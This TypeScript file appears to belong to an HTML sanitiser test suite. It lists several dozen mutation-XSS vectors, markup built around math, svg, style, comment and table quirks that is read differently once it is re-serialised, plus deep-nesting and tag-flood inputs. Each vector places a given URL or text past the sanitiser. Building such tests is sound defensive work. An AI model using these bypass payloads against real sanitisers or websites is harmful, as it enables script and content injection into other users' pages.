import type { Vector } from './vector';

/**
 * Markup that a parser reads differently once it is written out again. Such markup has passed
 * sanitisers.
 */
export const mutationVectors: readonly Vector[] = [
  {
    name: 'html inside a math annotation',
    html: (url) =>
      `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=${url}>">`,
  },
  {
    name: 'annotation without an encoding',
    html: (url) => `<math><annotation-xml><style><!--</style><img src="${url}">-->`,
  },
  {
    name: 'malignmark at a text point',
    html: (url) => `<math><mi><malignmark><style><img title="</style><img src=${url}>">`,
  },
  {
    name: 'glyph that leaves its table',
    html: (url) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=${url}>">`,
  },
  {
    name: 'svg description with html',
    html: (url) => `<svg><desc><noscript><p title="</noscript></desc></svg><img src=${url}>">`,
  },
  {
    name: 'foreign object with math',
    html: (url) => `<svg><foreignObject><math><mi><style><a title="</style><img src=${url}>">`,
  },
  {
    name: 'end tag that breaks out of svg',
    html: (url) => `<svg></br><style><a title="</style><img src=${url}>">`,
  },
  {
    name: 'font that breaks out of svg',
    html: (url) => `<svg><style><font color=x><a title="</style><img src=${url}>">`,
  },
  {
    name: 'self-closing html in svg',
    html: (url) => `<svg><p/><style><!--</style><img src="${url}">--></svg>`,
  },
  {
    name: 'title of svg in math',
    html: (url) => `<math><svg><title><xmp><a title="</xmp></title></svg></math><img src=${url}>">`,
  },
  {
    name: 'style in a select',
    html: (url) => `<select><style></select><img src="${url}"></style>`,
  },
  {
    name: 'template in a select',
    html: (url) => `<select><template><style></select></template><img src="${url}"></style>`,
  },
  {
    name: 'text area in svg',
    html: (url) => `<svg><textarea><a title="</textarea></svg><img src=${url}>">`,
  },
  {
    name: 'iframe text in svg',
    html: (url) => `<svg><iframe><a title="</iframe></svg><img src=${url}>">`,
  },
  {
    name: 'noframes in a frame set',
    html: (url) => `<frameset><noframes><style></noframes></frameset><img src="${url}">`,
  },
  {
    name: 'noembed with a comment',
    html: (url) => `<noembed><!--</noembed><img src="${url}">-->`,
  },
  {
    name: 'plain text in math',
    html: (url) => `<math><mtext><plaintext></math><img src="${url}">`,
  },
  {
    name: 'plain text in a table',
    html: (url) => `<table><plaintext></table><img src="${url}">`,
  },
  {
    name: 'nested forms across a table',
    html: (url) => `<form><table><form></table></form><form><style></form><img src="${url}">`,
  },
  {
    name: 'table that throws out a link',
    html: (url, words) => `<a href="${url}"><table><a href="${url}"><b>${words}</table></a></b>`,
    carriesWords: true,
  },
  {
    name: 'caption that throws out a form',
    html: (url, words) => `<table><caption><form action="${url}">${words}<td></caption></table>`,
    carriesWords: true,
  },
  {
    name: 'adopted formatting',
    html: (url, words) => `<b><p><i></b>${words}<a href="${url}"></p></i></a>`,
    carriesWords: true,
  },
  {
    name: 'paragraph closed before it opens',
    html: (url, words) => `</p><svg></p><style><a title="</style><img src=${url}>">${words}`,
  },
  {
    name: 'headings in headings',
    html: (_url, words) => `<h1><h2><h1>${words}</h2></h1></h1>`,
    carriesWords: true,
  },
  {
    name: 'at the depth where browsers flatten',
    html: (url, words) =>
      `${'<div>'.repeat(255)}<svg><style><a title="</style><img src=${url}>">${words}`,
  },
  {
    name: 'at twice the depth where browsers flatten',
    html: (url, words) =>
      `<p>${words}</p>${'<form><div>'.repeat(512)}<svg><title><style><a title="</style><img src=${url}>">`,
    carriesWords: true,
  },
  {
    name: 'at the depth where the caps begin',
    html: (url, words) => `<p>${words}</p>${'<div>'.repeat(199)}<a href="${url}">x`,
    carriesWords: true,
  },
  {
    name: 'formatting that multiplies',
    html: (_url, words) =>
      `${'<b><i><u><s><em>'.repeat(30)}<p>${words}</p>${'<p>x</p>'.repeat(30)}`,
    carriesWords: true,
  },
  {
    name: 'formatting left open across many blocks',
    html: (_url, words) => `<p>${words}</p><div>${open(190)}</div>${'<div>x</div>'.repeat(20_000)}`,
    carriesWords: true,
  },
  {
    name: 'end tags that make elements',
    html: (_url, words) => `<p>${words}</p>${'</p></br>'.repeat(60_000)}`,
    carriesWords: true,
  },
  { name: 'character data in html', html: (url) => `<![CDATA[<img src="${url}">]]>` },
  { name: 'instruction that ends early', html: (url) => `<?php ?><img src="${url}">?>` },
  { name: 'document type with a tag', html: (url) => `<!DOCTYPE x [<img src="${url}">]>` },
  { name: 'comment never closed', html: (url) => `<!-- <img src="${url}">` },
  { name: 'comment with dashes', html: (url) => `<!---><img src="${url}">--->` },
  { name: 'comment inside an attribute', html: (url) => `<p title="<!--"><img src="${url}">-->` },
  {
    name: 'conditional comment',
    html: (url) => `<!--[if gte IE 5]><img src="${url}"><![endif]-->`,
  },
  {
    name: 'entities in an attribute',
    html: (url) => `<p title="&lt;/p&gt;&lt;img src=${url}&gt;">&lt;img src=${url}&gt;</p>`,
  },
  {
    name: 'entities written twice',
    html: (url) => `&amp;lt;img src=${url}&amp;gt;<p>&#60;img src=${url}&#x3e;</p>`,
  },
  {
    name: 'line separators in a tag',
    html: (url) => `<img\u2028src="${url}"><img\u000csrc="${url}"><img\u0085src="${url}">`,
  },
];

function open(count: number): string {
  return Array.from({ length: count }, (_, index) => `<b x=${index}>`).join('');
}
